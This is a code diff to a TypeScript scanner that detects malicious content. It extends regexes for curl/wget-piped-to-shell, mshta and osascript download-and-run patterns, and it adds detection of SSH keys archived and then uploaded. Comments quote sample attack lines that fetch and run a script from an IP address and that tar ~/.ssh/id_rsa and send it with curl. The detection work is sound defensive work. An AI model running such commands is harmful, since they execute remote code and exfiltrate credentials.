@@ -41,6 +41,8 @@ interface PatternRule {
   readonly match: string;
   readonly all?: readonly string[];
   readonly none?: readonly string[];
+  /** For line patterns: the match and its `all` expressions in one span (inline code or the text between). */
+  readonly sameSpan?: boolean;
   readonly message: string;
 }
 
@@ -161,7 +163,9 @@ export function untrustedHost(url: string): string | null {
 }
 
 const DOWNLOAD_RUN = [
-  /\b(?:curl|wget|fetch)\b[^|\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\/(?:usr\/)?bin\/)?(?:sh|bash|zsh|dash|ksh|python[23]?|perl|ruby|node|php)\b/gi,
+  /\b(?:curl|wget|fetch)\b[^\n]*\|\s*(?:sudo(?:\s+-[A-Za-z]+(?:\s+[\w.-]+)?)*\s+)?(?:(?:\/usr\/bin\/)?env\s+)?(?:xargs\s+(?:-\S+\s+)*)?["']?(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:sh|bash|zsh|dash|ksh|python[23]?|perl|ruby|node|php|osascript)\b/gi,
+  /\bosascript\s+-e\s+["']?\$\(\s*(?:curl|wget)\b[^)\n]*\)/gi,
+  /\bmshta(?:\.exe)?\s+\S*https?:\/\/\S+/gi,
   /\b(?:sh|bash|zsh|source|\.)\s+<\(\s*(?:curl|wget)\b[^)\n]*\)/gi,
   /\b(?:sh|bash|zsh|python[23]?)\s+-c\s+["']?\$\(\s*(?:curl|wget)\b[^)\n]*\)/gi,
   /\beval\s+["']?\$\(\s*(?:curl|wget)\b[^)\n]*\)/gi,
@@ -174,7 +178,8 @@ function downloadRuns(text: string): MaliciousFinding[] {
   for (const shape of DOWNLOAD_RUN) {
     const re = new RegExp(shape.source, shape.flags);
     for (let m = re.exec(text); m; m = re.exec(text)) {
-      const urls = m[0].match(/https?:\/\/[^\s"'`)<>|]+/gi) ?? [];
+      // curl takes a bare host as http: `curl -s 192.0.2.10/i.sh | bash`.
+      const urls = [...(m[0].match(/https?:\/\/[^\s"'`)<>|]+/gi) ?? []), ...(m[0].match(/(?<![\w./:-])\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?\/[^\s"'`)<>|]*/g) ?? []).map((u) => `http://${u}`)];
       for (const url of urls) {
         const why = untrustedHost(url);
         if (why) {
@@ -185,6 +190,33 @@ function downloadRuns(text: string): MaliciousFinding[] {
     }
   }
   out.push(...savedThenRun(text));
+  return out;
+}
+
+/**
+ * Credentials bundled into a file (an archive, a copy) on one line and that file sent out on a
+ * later line of the same paragraph: `tar czf /tmp/s.tgz ~/.ssh/id_rsa` then `curl -F f=@/tmp/s.tgz`.
+ * The credential and sender expressions are those of the `credential-send` pattern.
+ */
+function bundledThenSent(text: string, lines: readonly Window[], paragraphs: readonly Window[]): MaliciousFinding[] {
+  const rule = load().patterns.find((p) => p.id === 'credential-send');
+  if (!rule || rule.allRe.length === 0) return [];
+  const out: MaliciousFinding[] = [];
+  for (const line of lines) {
+    const m = rule.re.exec(line.text);
+    if (!m || rule.allRe[0]!.test(line.text)) continue;
+    const files = line.text
+      .split(/\s+/)
+      .map((t) => t.replace(/^["'@]+|["';&|]+$/g, ''))
+      .filter((t) => /[/.]/.test(t) && !t.startsWith('-') && !rule.re.test(t) && t.length > 2);
+    if (files.length === 0) continue;
+    const para = windowAt(paragraphs, line.start);
+    if (!para) continue;
+    const rest = para.text.slice(line.start - para.start + line.text.length).split('\n');
+    if (rest.some((l) => rule.allRe[0]!.test(l) && files.some((f) => l.includes(f)))) {
+      out.push({ technique: 'credential-exfiltration', pattern: 'credential-bundle-send', offset: line.start + m.index, length: m[0].length, message: 'credentials are bundled into a file that is then sent out' });
+    }
+  }
   return out;
 }
 
@@ -286,12 +318,22 @@ function scanText(text: string, depth: number): MaliciousFinding[] {
       if (m[0].length === 0) re.lastIndex++;
       const w = windowAt(ws, m.index);
       if (!w || taken.has(w) || w.text.length > 20_000) continue;
-      if (!p.allRe.every((r) => r.test(w.text)) || p.noneRe.some((r) => r.test(w.text))) continue;
+      // The text the `all` and `none` expressions are judged on: the window, or with sameSpan the
+      // span of the line (between backticks) that holds the match.
+      let scope = w.text;
+      if (p.sameSpan) {
+        const at = m.index - w.start;
+        const open = w.text.lastIndexOf('`', at - 1);
+        const close = w.text.indexOf('`', at + m[0].length);
+        scope = w.text.slice(open + 1, close < 0 ? undefined : close);
+      }
+      if (!p.allRe.every((r) => r.test(scope)) || p.noneRe.some((r) => r.test(scope))) continue;
       taken.add(w);
       out.push({ technique: p.technique, pattern: p.id, offset: m.index, length: m[0].length, message: p.message });
     }
   }
   out.push(...downloadRuns(text));
+  out.push(...bundledThenSent(text, lines, paragraphs));
   if (depth > 0) {
     // A regex of its own per call: the decoded text is scanned from inside this loop.
     const literals = new RegExp(BASE64.source, 'g');
